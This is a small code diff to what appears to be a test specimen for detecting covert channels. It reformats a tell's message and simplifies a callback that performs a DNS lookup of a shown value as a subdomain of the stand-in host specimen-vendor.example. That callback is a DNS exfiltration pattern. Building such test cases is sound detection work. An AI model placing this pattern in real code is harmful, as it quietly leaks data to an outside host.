@@ -11,7 +11,7 @@ await specimen(
     tells: [
       {
         carrier: 'text.code-point',
-        message: 'dns A telemetry.specimen-vendor.example #1',
+        message: 'DNS telemetry.specimen-vendor.example A #1',
         address: 'questions[0].name',
         dependsOn: ['proxy'],
         class: 'covert',
@@ -19,8 +19,5 @@ await specimen(
       },
     ],
   },
-  (prompt, { shown }) => [
-    messagesRequest(prompt),
-    { act: (endpoint) => lookUp(endpoint, `${shown}.specimen-vendor.example`) },
-  ],
+  (prompt, { shown }) => [messagesRequest(prompt), { act: () => lookUp(`${shown}.specimen-vendor.example`) }],
 );
